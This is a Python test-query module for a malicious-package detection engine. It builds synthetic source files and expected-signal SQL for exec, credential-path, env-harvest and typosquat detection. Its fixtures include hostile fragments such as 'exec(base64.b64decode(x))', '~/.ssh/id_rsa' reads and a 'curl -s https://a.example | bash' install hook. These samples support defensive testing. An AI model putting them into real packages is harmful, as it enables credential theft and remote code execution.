"""Queries of the package engine. Each part row stands for a package whose sources are put
together from its columns, so that SQL can say from the columns alone what must be found."""

from __future__ import annotations

import pandas as pd
from pyspark.sql import DataFrame
from pyspark.sql import functions as F

from .. import api, projects
from ..core import cut, shared_path, spread, table
from ..functions import patterns as P
from ..operators import evaluation, features, graph, history, names, signals
from ..sources import advisories, archives, call_graph, javascript, lockfiles, python_ast, registry, shipped, snapshots
from ..streaming import progress
from . import fixtures as X
from . import text_queries

QUERIES: dict = {}
ORACLE_SQL: dict[str, str] = {}


def query(name: str, sql: str | None = None):
    def enter(f):
        QUERIES[name] = f
        if sql:
            ORACLE_SQL[name] = sql
        return f

    return enter


def stored(rows: DataFrame, url: str, text: str) -> DataFrame:
    """text of documents that have gone through a store of snapshots; an older one of the same request has gone in too."""
    spark, path = rows.sparkSession, shared_path(rows.sparkSession, "snapshots")
    at = lambda days, content: rows.select(F.lit("GET").alias("method"), F.expr(url).alias("url"), F.lit(None).cast("string").alias("body"), content.alias("content"), F.expr(f"timestamp'2026-01-08 00:00:00' - INTERVAL {days} DAYS").alias("fetched_at"))
    snapshots.save(path, at(6, F.lit("{}")).unionByName(at(1, F.expr(text))))
    return snapshots.documents(spark, path, F.expr("timestamp'2026-01-08 00:00:00'")).select(F.col("content").alias("text"))


def part(spark, sf_dir) -> DataFrame:
    """Parts, over all cores, as each becomes sources to be parsed."""
    return spread(table(spark, sf_dir, "part"))


def built(condition: str, text: str) -> str:
    """A piece of source that rows have for which the condition holds; the expressions read the same in both engines."""
    return f"CASE WHEN {condition} THEN '{text}' ELSE '' END"


#: Python sources: which rows have which lines, and what a line raises: code, key, line number as SQL.
PY_LINES = [
    ("true", "import os, base64, requests\\nimport subprocess as sp\\n", 2, []),
    ("true", '"""eval(1) and os.system(2) in a docstring"""\\n# exec(base64.b64decode(x))\\n', 2, []),
    ("p_size % 3 > 0", "sp.run(a, shell=True)\\nsp.run(b)\\n", 2, [("PROCESS_SPAWN", "subprocess.run", 0), ("SHELL_TRUE", "subprocess.run", 0)]),
    ("p_partkey % 5 = 0", "exec(base64.b64decode(x))\\n", 1, [("DECODE_THEN_EXEC", None, 0)]),
    ("p_partkey % 7 = 0", "eval(y)\\nz.eval(y)\\n", 2, [("DYNAMIC_EVAL", "eval", 0)]),
    ("p_partkey % 3 = 0", 'u = "https://webhook.site/a"\\nv = "see webhook.site"\\n', 2, [("SUSPICIOUS_ENDPOINT", "4", 0)]),
    ("p_partkey % 4 = 1", 'w = "~/.ssh/id_rsa"\\n', 1, [("SENSITIVE_PATH_ACCESS", "0", 0), ("SENSITIVE_PATH_ACCESS", "1", 0)]),
    ("p_size % 4 = 2", "k = os.environ\\nm = os.getenv(n)\\n", 2, [("ENV_ACCESS", "env", 0)]),
    ("p_size % 5 = 1", "requests.options(c)\\n", 1, [("NETWORK_ACCESS", "requests.options", 0)]),
    ("p_size % 7 = 3", "def f(q):\\n    return __import__(q)\\n", 2, [("DYNAMIC_IMPORT", "__import__", 1)]),
]


def _source(lines: list[tuple]) -> str:
    return "concat(" + ", ".join(built(c, t) for c, t, _, _ in lines) + ")"


def _expected(lines: list[tuple], key: str) -> str:
    """SQL of key, code, key and line of everything that the lines raise."""
    at, out = "0", []
    for condition, _, n, raised in lines:
        for code, name, row in raised:
            line = f"({at} + {row + 1})"
            out.append(f"SELECT {key}, '{code}' AS code, {line + '::VARCHAR' if name is None else repr(name)} AS key, {line}::INT AS line FROM part WHERE {condition}")
        at = f"{at} + CASE WHEN {condition} THEN {n} ELSE 0 END"
    return " UNION ALL ".join(out)


def _text(expression: str):
    """The expression for Spark, whose literals have escapes."""
    return F.expr(expression)


@query("q56_python_calls", _expected(PY_LINES, "'m' || p_partkey || '.py' AS path"))
def q56(spark, sf_dir):
    files = part(spark, sf_dir).select(F.expr("concat('m', p_partkey, '.py')").alias("path"), _text(_source(PY_LINES)).alias("source"))
    return python_ast.code_signals(python_ast.facts(files))


#: Chains of as many names as the part's size says, from a secret to a call; written backwards, up to five.
_FORWARD = "concat_ws('', transform(sequence(1, 12), i -> CASE WHEN i <= p_size % 13 THEN concat('v', i, ' = [v', i - 1, ', 1]\\n') ELSE '' END))"
_BACKWARD = "concat_ws('', transform(sequence(1, 5), i -> CASE WHEN 6 - i <= p_size % 6 THEN concat('v', 6 - i, ' = v', 5 - i, '.x\\n') ELSE '' END))"
_CHAIN = (
    "concat('import os\\nimport requests\\no.k = os.environ[\"API_KEY\"]\\nv0 = os.environ[\"', CASE p_size % 4 WHEN 0 THEN 'API_KEY' WHEN 1 THEN 'LANG' WHEN 2 THEN 'DB_PASSWORD' ELSE 'HOME' END, '\"]\\n', "
    f"CASE WHEN p_partkey % 2 = 0 THEN {_FORWARD} ELSE {_BACKWARD} END, "
    "CASE p_partkey % 3 WHEN 0 THEN 'requests.post(u, data=v' WHEN 1 THEN 'requests.options(u, v' ELSE 'print(u, v' END, CASE WHEN p_partkey % 2 = 0 THEN p_size % 13 ELSE p_size % 6 END, ')\\nrequests.get(o)\\n')"
)


@query(
    "q57_taint_flows",
    "SELECT 'c' || p_partkey || '.py' AS path, CASE p_partkey % 3 WHEN 0 THEN 'requests.post' ELSE 'requests.options' END AS target, '<module>' AS scope, "
    "(5 + CASE WHEN p_partkey % 2 = 0 THEN p_size % 13 ELSE p_size % 6 END)::INT AS line, 'env@4' AS detail FROM part WHERE p_size % 4 IN (0, 2) AND p_partkey % 3 < 2",
)
def q57(spark, sf_dir):
    files = part(spark, sf_dir).select(F.expr("concat('c', p_partkey, '.py')").alias("path"), _text(_CHAIN).alias("source"))
    return python_ast.facts(files).where("kind = 'flow'").select("path", "target", "scope", "line", "detail")


#: A setup.py for each part: what runs when it is read, what only a function of it would do, and a command class.
_SETUP = [
    ("true", "import os\\nfrom setuptools import setup\\n", 2, []),
    ("p_size % 3 = 0", 'os.system("make")\\n', 1, [("PROCESS_SPAWN", "os.system", 0), ("SETUP_PY_SIDE_EFFECTS", None, 0)]),
    ("true", 'def later():\\n    os.popen("x")\\n', 2, [("PROCESS_SPAWN", "os.popen", 1)]),
    ("p_size % 4 = 1", "eval(x)\\n", 1, [("DYNAMIC_EVAL", "eval", 0), ("SETUP_PY_SIDE_EFFECTS", None, 0)]),
    ("p_partkey % 5 = 2", 'setup(name="a", cmdclass={"install": I})\\n', 1, [("SETUP_PY_SIDE_EFFECTS", "cmdclass", 0)]),
    ("p_partkey % 5 <> 2", 'setup(name="a")\\n', 1, []),
]


@query("q56b_setup_side_effects", _expected(_SETUP, "'p' || p_partkey || '/setup.py' AS path"))
def q56b(spark, sf_dir):
    files = part(spark, sf_dir).select(F.expr("concat('p', p_partkey, '/setup.py')").alias("path"), _text(_source(_SETUP)).alias("source"))
    return python_ast.code_signals(python_ast.facts(files))


_MODULES = "concat('import m', p_partkey div 2, '\\nimport json\\ndef run(x):\\n    m', p_partkey div 2, '.run(x)\\n    helper()\\n    json.dumps(x)\\ndef helper():\\n    pass\\n', CASE WHEN p_partkey % 4 = 3 THEN 'run(1)\\n' ELSE '' END)"


def modules(spark, sf_dir) -> DataFrame:
    return part(spark, sf_dir).where("p_partkey >= 2").select(F.expr("concat('m', p_partkey, '.py')").alias("path"), _text(_MODULES).alias("source"))


_CALLS = """WITH p AS (SELECT p_partkey AS k, p_partkey // 2 AS h, 'm' || p_partkey AS m, 'm' || (p_partkey // 2) AS n FROM part WHERE p_partkey >= 2),
    e AS (SELECT m || '::run' AS src, CASE WHEN h >= 2 THEN n || '::run' ELSE 'ext:' || n || '.run' END AS dst FROM p UNION ALL SELECT m || '::run', m || '::helper' FROM p UNION ALL SELECT m || '::run', 'ext:json.dumps' FROM p
        UNION ALL SELECT m || '::<module>', n || '::<module>' FROM p WHERE h >= 2 UNION ALL SELECT m || '::<module>', m || '::run' FROM p WHERE k % 4 = 3)"""


@query("q58_call_graph", _CALLS + " SELECT src, dst FROM e")
def q58(spark, sf_dir):
    return call_graph.edges(cut(call_graph.facts(modules(spark, sf_dir)))).select("src", "dst")


@query(
    "q58b_graph_statistics",
    _CALLS + " SELECT (SELECT count(*) FROM p) AS modules, 2 * (SELECT count(*) FROM p) AS functions, (SELECT count(*) FROM p) AS files, (SELECT count(DISTINCT dst) FROM e WHERE starts_with(dst, 'ext:')) AS externals, "
    "(SELECT count(*) FROM e) AS edges, (SELECT count(*) FROM p WHERE k NOT IN (SELECT h FROM p)) AS entry_points",
)
def q58b(spark, sf_dir):
    found = cut(call_graph.facts(modules(spark, sf_dir)))
    kind = F.when(F.col("scope") == call_graph.MODULE, "module").otherwise("function")
    return graph.statistics(call_graph.nodes(found).select("node", kind.alias("kind"), "path"), cut(call_graph.edges(found)))


#: A project for each part: a package with classes, relative imports, a subpackage without a file of its own, and calls that no graph can follow.
_PROJECT = [
    ("pkg/__init__.py", "'from .util import run\n'"),
    ("pkg/util.py", "'import yaml\ndef run():\n    helper()\ndef helper():\n    return A()\nclass A:\n    def go(self):\n        return yaml.load(x)\n    def run(self):\n        len(x)\n        self.go()\n'"),
    (
        "pkg/app.py",
        "concat('from .util import run\nfrom . import util as u\nimport pkg.util, json\ndef main():\n    run()\n    f()\n', "
        + ", ".join([built("p_size % 3 = 0", "    u.A.go()\n"), built("p_size % 5 = 1", "    pkg.util.A.run()\n"), built("p_partkey % 2 = 0", "main()\n")])
        + ")",
    ),
    ("pkg/sub/core.py", "concat('from ..util import A as B\nfrom .. import nothing\nimport json\ndef ', CASE WHEN p_partkey % 4 = 0 THEN '_go' ELSE 'go' END, '():\n    B.go()\n    json.dumps(1)\n')"),
]


def graph_projects(spark, sf_dir) -> DataFrame:
    files = ", ".join(f"struct('{path}' AS path, {source} AS source)" for path, source in _PROJECT)
    return part(spark, sf_dir).select(F.col("p_partkey").cast("string").alias("project"), F.expr(f"inline(array({files}))"))


_M = "::<module>"
_RESOLVED = [
    ("true", f"'pkg{_M}'", f"'pkg.util{_M}'", "0"),
    ("true", f"'pkg.app{_M}'", f"'pkg.util{_M}'", "0"),
    ("true", f"'pkg.app{_M}'", f"'pkg{_M}'", "0"),
    ("true", f"'pkg.sub.core{_M}'", f"'pkg.util{_M}'", "0"),
    ("true", f"'pkg.sub.core{_M}'", f"'pkg{_M}'", "0"),
    ("true", "'pkg.util::run'", "'pkg.util::helper'", "3"),
    ("true", "'pkg.util::A.go'", "'ext:yaml.load'", "8"),
    ("true", "'pkg.app::main'", "'pkg.util::run'", "5"),
    ("p_size % 3 = 0", "'pkg.app::main'", "'pkg.util::A.go'", "7"),
    ("p_size % 5 = 1", "'pkg.app::main'", "'pkg.util::A.run'", "7 + (p_size % 3 = 0)::INT"),
    ("p_partkey % 2 = 0", f"'pkg.app{_M}'", "'pkg.app::main'", "7 + (p_size % 3 = 0)::INT + (p_size % 5 = 1)::INT"),
    ("true", "'pkg.sub.core::' || CASE WHEN p_partkey % 4 = 0 THEN '_go' ELSE 'go' END", "'pkg.util::A.go'", "5"),
    ("true", "'pkg.sub.core::' || CASE WHEN p_partkey % 4 = 0 THEN '_go' ELSE 'go' END", "'ext:json.dumps'", "6"),
]


@query("q58d_resolved_calls", " UNION ALL ".join(f"SELECT p_partkey::VARCHAR AS project, {src} AS src, {dst} AS dst, ({line})::INT AS line FROM part WHERE {condition}" for condition, src, dst, line in _RESOLVED))
def q58d(spark, sf_dir):
    return call_graph.edges(cut(call_graph.facts(graph_projects(spark, sf_dir)))).select("project", "src", "dst", "line")


@query(
    "q58e_symbol_search",
    """WITH w AS (SELECT p_partkey AS k, p_size AS z, unnest(['a', 'b', 'c', 'd', 'e']) AS id FROM part),
    v AS (SELECT k, z, id, CASE id WHEN 'd' THEN 'not_imported' WHEN 'e' THEN 'assumed_reachable' WHEN 'b' THEN 'symbol_not_called'
        WHEN 'a' THEN CASE WHEN z % 3 = 0 OR k % 4 <> 0 THEN 'reachable' ELSE 'symbol_not_called' END ELSE CASE WHEN k % 4 <> 0 THEN 'reachable' ELSE 'symbol_not_called' END END AS verdict FROM w)
    SELECT k::VARCHAR AS project, id, verdict, CASE verdict WHEN 'assumed_reachable' THEN 'low' WHEN 'symbol_not_called' THEN 'medium' ELSE 'high' END AS confidence,
        verdict IN ('reachable', 'assumed_reachable') AS reachable, CASE id WHEN 'a' THEN 1 WHEN 'd' THEN NULL ELSE 2 END::BIGINT AS imported_by,
        CASE WHEN verdict = 'reachable' THEN id = 'a' AND z % 3 = 0 AND k % 2 = 0 END AS proven,
        CASE WHEN verdict <> 'reachable' THEN NULL WHEN id = 'c' THEN 'pkg.sub.core.go > json.dumps' WHEN z % 3 = 0 AND k % 2 = 0 THEN 'pkg.app > pkg.app.main > pkg.util.A.go > yaml.load'
             WHEN z % 3 = 0 THEN 'pkg.app.main > pkg.util.A.go > yaml.load' ELSE 'pkg.sub.core.go > pkg.util.A.go > yaml.load' END AS path
    FROM v""",
)
def q58e(spark, sf_dir):
    asked = [("a", "'PyYAML', 'yaml'", "'yaml.load'"), ("b", "'json'", "'loads'"), ("c", "'json'", "'loads', 'json.DUMPS'"), ("d", "'flask'", "'Flask'"), ("e", "'json'", "")]
    asked = "array(" + ", ".join(f"struct('{i}' AS id, array({roots}) AS roots, CAST(array({symbols}) AS array<string>) AS symbols)" for i, roots, symbols in asked) + ")"
    wanted = table(spark, sf_dir, "part").select(F.col("p_partkey").cast("string").alias("project"), F.expr(f"inline({asked})"))
    judged = call_graph.verdicts(call_graph.facts(graph_projects(spark, sf_dir)), wanted)
    path = F.array_join(F.concat(F.transform("steps", lambda s: s["caller"]), F.array("symbol")), " > ")
    return judged.select("project", "id", "verdict", "confidence", "reachable", "imported_by", "proven", path.alias("path"))


JS_LINES = [
    ("true", 'const cp = require("child_process"), { get: fetchIt } = require("https");\\n// eval(x); cp.exec(y)\\n/* require(z) */\\n', 3, []),
    ("p_size % 3 > 0", 'cp.exec("ls");\\ncp.spawn(a, [b]);\\n', 2, [("PROCESS_SPAWN", "child_process.exec", 0), ("SHELL_TRUE", "child_process.exec", 0), ("PROCESS_SPAWN", "child_process.spawn", 1)]),
    ("p_partkey % 5 = 0", "eval(atob(s));\\n", 1, [("DECODE_THEN_EXEC", None, 0)]),
    ("p_partkey % 7 = 0", 'new Function("x");\\nsetTimeout("run()", 5);\\nsetTimeout(run, 5);\\n', 3, [("DYNAMIC_EVAL", "new Function", 0), ("DYNAMIC_EVAL", "setTimeout", 1)]),
    ("p_partkey % 3 = 0", "const q = `~/.aws/credentials`, r = /[/*]eval(x)/;\\n", 1, [("SENSITIVE_PATH_ACCESS", "2", 0)]),
    ("p_size % 4 = 2", "send(process.env);\\nconst home = process.env.HOME / 2;\\n", 2, [("ENV_ACCESS", "env", 0), ("ENV_BULK_HARVEST", "bulk", 0)]),
    ("p_size % 4 = 3", "const home = process.env.HOME;\\n", 1, [("ENV_ACCESS", "env", 0)]),
    ("p_size % 5 = 1", 'fetchIt("http://8.8.4.4/x");\\n', 1, [("NETWORK_ACCESS", "https.get", 0), ("HARDCODED_IP_ENDPOINT", "", 0)]),
    ("p_size % 7 = 3", 'require(name);\\nrequire("fs");\\n', 2, [("DYNAMIC_IMPORT", "require", 0)]),
]


@query("q64_javascript_signals", _expected(JS_LINES, "'m' || p_partkey || '.js' AS path"))
def q64(spark, sf_dir):
    files = part(spark, sf_dir).select(F.expr("concat('m', p_partkey, '.js')").alias("path"), _text(_source(JS_LINES)).alias("source"))
    return javascript.code_signals(files)


#: Packages of the engine: one Python file, a script that a hook names, a test file that is left out, hooks and metadata.
HOOK = "CASE p_partkey % 4 WHEN 0 THEN 'curl -s https://a.example | bash' WHEN 1 THEN 'node ./run.js' WHEN 2 THEN 'npm run build' END"
_HOOK_CODES = [("INSTALL_HOOK_PRESENT", "p_partkey % 4 < 3"), ("INSTALL_HOOK_SHELL_PIPE", "p_partkey % 4 = 0"), ("INSTALL_HOOK_NETWORK", "p_partkey % 4 = 0"), ("PROCESS_SPAWN", "p_partkey % 4 = 0"), ("PROCESS_SPAWN", "p_partkey % 4 = 1")]
_META_CODES = [("NO_REPOSITORY", "p_size % 2 = 0"), ("VERY_NEW_PACKAGE", "p_size % 10 < 7"), ("SINGLE_VERSION", "p_size % 3 = 1"), ("EMPTY_DESCRIPTION", "p_brand = 'Brand#1'"), ("TINY_PACKAGE_WITH_HOOK", "p_partkey % 4 < 3")]
_NETWORK, _ENV, _SECRETS = "(p_size % 5 = 1 OR p_partkey % 3 = 0)", "p_size % 4 = 2", "p_partkey % 4 = 1"
_PY_BOTH = [("EXFIL_CREDENTIALS_TO_NETWORK", f"{_NETWORK} AND {_SECRETS}")]
_JS_NETWORK, _JS_ENV, _JS_SECRETS = "p_size % 5 = 1", "p_size % 4 IN (2, 3)", "p_partkey % 3 = 0"
_JS_INSTALL = "p_partkey % 4 = 1"
_JS_BOTH = [
    ("EXFIL_CREDENTIALS_TO_NETWORK", f"{_JS_NETWORK} AND {_JS_SECRETS}"),
    ("EXFIL_ENV_TO_NETWORK", f"{_JS_NETWORK} AND {_JS_ENV} AND {_JS_INSTALL} AND NOT {_JS_SECRETS}"),
    ("EXFIL_ON_INSTALL", f"{_JS_INSTALL} AND {_JS_NETWORK} AND ({_JS_ENV} OR {_JS_SECRETS})"),
]


def package_files(spark, sf_dir) -> DataFrame:
    p = part(spark, sf_dir).select(F.expr("concat('pkg', p_partkey)").alias("package"), _text(_source(PY_LINES)).alias("py"), _text(_source(JS_LINES)).alias("js"))
    kinds = [("lib/core.py", "py"), ("run.js", "js"), ("tests/core.py", "py"), ("readme.md", "js"), ("broken.py", "js")]
    return p.select("package", F.explode(F.array(*[F.struct(F.lit(path).alias("path"), F.col(c).alias("text")) for path, c in kinds])).alias("f")).select("package", "f.*")


def package_hooks(spark, sf_dir) -> DataFrame:
    return part(spark, sf_dir).select(F.expr("concat('pkg', p_partkey)").alias("package"), F.expr(HOOK).alias("command")).where("command IS NOT NULL")


def package_metadata(spark, sf_dir) -> DataFrame:
    return part(spark, sf_dir).select(
        F.expr("concat('pkg', p_partkey)").alias("package"), F.expr("CASE WHEN p_size % 2 = 1 THEN p_name END").alias("repository_url"), F.expr("CAST(p_size % 10 AS DOUBLE)").alias("age_days"),
        F.expr("p_size % 3").alias("version_count"), F.lit(2).alias("maintainer_count"), F.expr("CASE WHEN p_brand = 'Brand#1' THEN ' ' ELSE p_brand END").alias("description"), F.expr("p_size % 6").alias("dependency_count"),
    )


def _alone(codes: list[tuple[str, str]]) -> str:
    return " UNION ALL ".join(f"SELECT 'pkg' || p_partkey AS package, NULL AS path, '{c}' AS code FROM part WHERE {x}" for c, x in codes)


_SIGNALS = (
    "WITH s AS (SELECT package, 'lib/core.py' AS path, code FROM (" + _expected(PY_LINES, "'pkg' || p_partkey AS package") + ") UNION ALL SELECT package, 'run.js', code FROM (" + _expected(JS_LINES, "'pkg' || p_partkey AS package") + ") UNION ALL "
    + " UNION ALL ".join(f"SELECT 'pkg' || p_partkey, '{path}', '{c}' FROM part WHERE {x}" for path, some in (("lib/core.py", _PY_BOTH), ("run.js", _JS_BOTH)) for c, x in some)
    + f" UNION ALL {_alone(_HOOK_CODES)} UNION ALL {_alone(_META_CODES)})"
)


def package_signals(spark, sf_dir) -> DataFrame:
    return api.analyse(package_files(spark, sf_dir), package_hooks(spark, sf_dir), package_metadata(spark, sf_dir))


@query("q67_package_signals", _SIGNALS + " SELECT package, path, code FROM s")
def q67(spark, sf_dir):
    return package_signals(spark, sf_dir).select("package", "path", "code")


_WEIGHTS = "w(code, weight, rank) AS (VALUES " + ", ".join(f"('{c}', {w}::DOUBLE, {P.SEVERITY_RANK[s]})" for c, _, s, w in P.SIGNALS) + ")"
_SCORED = _SIGNALS + f", {_WEIGHTS}, n AS (SELECT package, code, count(*) AS n FROM s GROUP BY ALL), r AS (SELECT package, sum(weight * list_sum(list_transform(range(1, n + 1), lambda k: 1.0 / k))) AS raw FROM n JOIN w USING (code) GROUP BY package), z AS (SELECT package, 1 / (1 + exp(-(raw - {P.SCORE_MIDPOINT}) / {P.SCORE_SCALE})) AS score FROM r)"


@query(
    "q65_package_scores",
    _SCORED + f" SELECT 'pkg' || p_partkey AS package, round(coalesce(score, 0.0), 6) AS score, CASE WHEN score >= {P.MALICIOUS} THEN 'malicious' WHEN score >= {P.SUSPICIOUS} THEN 'suspicious' ELSE 'benign' END AS verdict FROM part LEFT JOIN z ON z.package = 'pkg' || p_partkey",
)
def q65(spark, sf_dir):
    found = api.score(package_files(spark, sf_dir), hooks=package_hooks(spark, sf_dir), metadata=package_metadata(spark, sf_dir))
    return found.select("package", F.round("score", 6).alias("score"), "verdict")


#: SQL text of both files of a package.
_PY_SQL, _JS_SQL = (_source(x).replace("\\n", "' || chr(10) || '") for x in (PY_LINES, JS_LINES))
_LONGEST = "list_max(list_transform(string_split({}, chr(10)), lambda l: length(l)))"
_COUNTED = [(c, code) for cols in features.COUNTS.values() for c, code in cols]
_VECTOR = {
    **{c: f"ln(1 + count(*) FILTER (WHERE code = '{code}'))" for c, code in _COUNTED},
    **{f"{n}_signals": f"ln(1 + count(*) FILTER (WHERE rank = {r}))" for n, r in (("critical", 4), ("high", 3), ("medium", 2))},
    "total_signals": "ln(1 + count(code))", "distinct_signal_types": "ln(1 + count(DISTINCT code))", "rules_baseline_score": "coalesce(any_value(score), 0)",
    "tiny_package_with_hook": "any_value((p_partkey % 4 < 3)::INT)", "minified_ratio": "0", "parse_failure_ratio": "1 / 3", "max_line_length": "ln(1 + any_value(longest))",
    "file_count": "ln(1 + 5)", "source_file_count": "ln(1 + 3)", "source_file_ratio": "0.6", "total_bytes": "ln(1 + any_value(size))", "avg_file_bytes": "ln(1 + any_value(length(py) + 2 * length(js)) / 3)",
    "has_repository": "any_value(p_size % 2)", "age_days": "ln(1 + any_value(p_size % 10))", "version_count": "ln(1 + any_value(p_size % 3))", "maintainer_count": "ln(3)", "description_length": "ln(1 + any_value(CASE WHEN p_brand = 'Brand#1' THEN 1 ELSE length(p_brand) END))",
    "dependency_count": "ln(1 + any_value(p_size % 6))", "is_single_version": "any_value((p_size % 3 <= 1)::INT)", "has_empty_description": "any_value((p_brand = 'Brand#1')::INT)", "is_very_new": "any_value((p_size % 10 < 7)::INT)",
    "typosquat_proximity": "0", "typosquat_homoglyph": "0", "typosquat_scope_confusion": "0", "typosquat_affix": "0",
}


@query(
    "q66_full_vector",
    _SCORED + f", t AS (SELECT *, 2 * length(py) + 3 * length(js) AS size, greatest({_LONGEST.format('py')}, {_LONGEST.format('js')}) AS longest FROM (SELECT *, {_PY_SQL} AS py, {_JS_SQL} AS js FROM part)) SELECT 'pkg' || p_partkey AS package, "
    + ", ".join(f"round(({_VECTOR[c]})::DOUBLE, 6) AS {c}" for c in features.NAMES)
    + " FROM t LEFT JOIN (s JOIN w USING (code)) ON s.package = 'pkg' || p_partkey LEFT JOIN z ON z.package = 'pkg' || p_partkey GROUP BY p_partkey",
)
def q66(spark, sf_dir):
    files = package_files(spark, sf_dir)
    raised = package_signals(spark, sf_dir).select("package", "code")
    none = spark.createDataFrame([], "candidate string, kind string, distance double")
    v = features.vector(raised, files, package_metadata(spark, sf_dir), none, api.failed(files))
    return v.select("package", *[F.round(c, 6).alias(c) for c in features.NAMES])


#: Look-alikes of part names: what is done to a name, by the part's number, and what must be found.
_NAME = "replace(p_name, ' ', '-')"
_ALIKE = f"CASE p_partkey % 6 WHEN 0 THEN replace(p_name, ' ', '_') WHEN 1 THEN concat({_NAME}, '-js') WHEN 2 THEN concat('@evil/', {_NAME}) WHEN 3 THEN replace({_NAME}, 'l', '1') WHEN 4 THEN {_NAME} ELSE concat(substring({_NAME}, 2, 1), substring({_NAME}, 1, 1), substring({_NAME}, 3, 50)) END"


def lookalikes(spark, sf_dir) -> tuple[DataFrame, DataFrame]:
    p = part(spark, sf_dir)
    return p.select(F.expr(_ALIKE).alias("name")).distinct(), p.select(F.expr(_NAME).alias("name")).distinct()


_BARE = f"c AS (SELECT DISTINCT {_ALIKE} AS name FROM part), k AS (SELECT DISTINCT {_NAME} AS name FROM part), n AS (SELECT name, regexp_replace(lower(name), '^@[^/]+/', '') AS bare FROM c)"
_SWAPS = "['" + "', '".join(a + b for a, b in P.LOOKALIKES) + "']"


def _pair_sql() -> str:
    pairs = [p for a, b in P.LOOKALIKE_PAIRS for p in ((a, b), (b, a))]
    return " UNION ALL ".join(f"SELECT name, bare, substring(bare, 1, strpos(bare, '{a}') - 1) || '{b}' || substring(bare, strpos(bare, '{a}') + {len(a)}), 'homoglyph' FROM n WHERE strpos(bare, '{a}') > 0" for a, b in pairs)


_VARIANTS = (
    f"WITH {_BARE}, v AS (SELECT name, bare, bare AS target, 'scope' AS kind FROM n WHERE starts_with(name, '@') UNION ALL "
    f"SELECT name, bare, substring(bare, 1, i - 1) || s[2] || substring(bare, i + 1), 'homoglyph' FROM (SELECT *, unnest(range(1, length(bare) + 1)) AS i FROM n) JOIN (SELECT unnest({_SWAPS}) AS s) ON substring(bare, i, 1) = s[1] UNION ALL {_pair_sql()} UNION ALL "
    "SELECT name, bare, unnest([regexp_replace(bare, '[-_.]', '', 'g'), replace(bare, '-', '_'), replace(bare, '_', '-'), replace(bare, '.', '-')]), 'separator' FROM n UNION ALL "
    + " UNION ALL ".join(
        [f"SELECT name, bare, bare || '{s}{a}', 'affix' FROM n" for a in P.AFFIXES for s in ("", "-")]
        + [f"SELECT name, bare, regexp_replace(left(bare, length(bare) - {len(a)}), '[-._]+$', ''), 'affix' FROM n WHERE suffix(bare, '{a}') AND length(bare) > {len(a) + 2}" for a in P.AFFIXES]
    )
    + "), m AS (SELECT DISTINCT v.name AS candidate, target, kind FROM v JOIN k ON k.name = target WHERE target <> bare OR kind = 'scope')"
)


@query("q14_name_variants", _VARIANTS + " SELECT candidate, target, kind FROM m")
def q14(spark, sf_dir):
    return names.variant_matches(*lookalikes(spark, sf_dir)).select("candidate", "target", "kind").distinct()


_PROXIMITY = ["typosquat_proximity", "typosquat_homoglyph", "typosquat_scope_confusion", "typosquat_affix"]


@query(
    "q66b_lookalike_features",
    _VARIANTS
    + ", d AS (SELECT candidate AS package, max(1 / (1 + CASE kind WHEN 'scope' THEN 0.0 WHEN 'affix' THEN 1.0 ELSE 0.5 END)) AS typosquat_proximity, max((kind = 'homoglyph')::INT) AS typosquat_homoglyph, max((kind = 'scope')::INT) AS typosquat_scope_confusion, max((kind IN ('affix', 'separator'))::INT) AS typosquat_affix FROM m GROUP BY candidate) "
    "SELECT c.name AS package, " + ", ".join(f"round(coalesce(d.{c}, 0)::DOUBLE, 6) AS {c}" for c in _PROXIMITY) + " FROM c LEFT JOIN d ON d.package = c.name",
)
def q66b(spark, sf_dir):
    candidates, popular = lookalikes(spark, sf_dir)
    files = candidates.select(F.col("name").alias("package"), F.lit("a.py").alias("path"), F.lit("x = 1").alias("text"))
    signals_ = files.select("package", F.lit("").alias("code")).limit(0)
    metadata = package_metadata(spark, sf_dir).limit(0)
    v = features.vector(signals_, files, metadata, names.variant_matches(candidates, popular), files.select("package", "path").limit(0))
    return v.select("package", *[F.round(c, 6).alias(c) for c in _PROXIMITY])


#: Names with one edit of a known cost: a doubled letter, two letters changed about, a letter that is missing.
_EDITED = f"CASE p_partkey % 3 WHEN 0 THEN concat(substring({_NAME}, 1, 2), 'qz', substring({_NAME}, 3, 50)) WHEN 1 THEN concat(substring({_NAME}, 2, 1), substring({_NAME}, 1, 1), substring({_NAME}, 3, 50)) ELSE substring({_NAME}, 2, 50) END"


@query("q16_weighted_distance", f"SELECT DISTINCT {_NAME} AS name, {_EDITED} AS edited, CASE p_partkey % 3 WHEN 0 THEN 2.0 WHEN 1 THEN CASE WHEN substring({_NAME}, 1, 1) = substring({_NAME}, 2, 1) THEN 0.0 ELSE 0.6 END ELSE 1.0 END::DOUBLE AS distance FROM part")
def q16(spark, sf_dir):
    rows = part(spark, sf_dir).select(F.expr(_NAME).alias("name"), F.expr(_EDITED).alias("edited")).distinct()
    return rows.select("name", "edited", names.weighted_dl("name", "edited", F.lit(2.0)).alias("distance"))


@query("q16b_typosquats")
def q16b(spark, sf_dir):
    return names.typosquats(*lookalikes(spark, sf_dir)).select("candidate", "target", "kind", "distance")


#: Advisory documents made from suppliers and nations, as JSON text that both engines build.
_DOC = (
    "concat('{\"id\":\"', CASE WHEN s_suppkey % 3 = 0 THEN 'CVE-1-' ELSE 'GHSA-' END, s_suppkey, '\",\"aliases\":[\"X-1\",\"CVE-2-', s_suppkey, '\"],\"summary\":\"Call `', CASE s_suppkey % 3 WHEN 0 THEN 'yaml.load' WHEN 1 THEN 'run_it()' ELSE 'user' END, '` and parse() or the() value\",', "
    "'\"severity\":[{\"type\":\"X\",\"score\":\"', CASE WHEN s_suppkey % 2 = 0 THEN 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' ELSE concat(s_suppkey % 10, '.5') END, '\"}],', "
    "CASE WHEN s_suppkey % 7 = 0 THEN '\"database_specific\":{\"severity\":\"moderate\"},' ELSE '' END, '\"affected\":[{\"package\":{\"name\":\"other\"},\"ranges\":[{\"events\":[{\"introduced\":\"9\"}]}]},{\"package\":{\"name\":\"PKG', s_suppkey % 5, '\"},', "
    "'\"ranges\":[{\"events\":[{\"last\":\"1\"}]},{\"events\":[{\"introduced\":\"0\"},{\"fixed\":\"1.', s_suppkey, '\"}]}]', CASE WHEN s_suppkey % 4 = 1 THEN ',\"ecosystem_specific\":{\"imports\":[{\"path\":\"p\",\"symbols\":[\"Zed\",\"Abe\"]}],\"functions\":[\"mid\"]}' ELSE '' END, '}],', "
    "'\"references\":[{\"url\":\"u', s_suppkey, '\"},{\"type\":\"W\"}]}')"
)
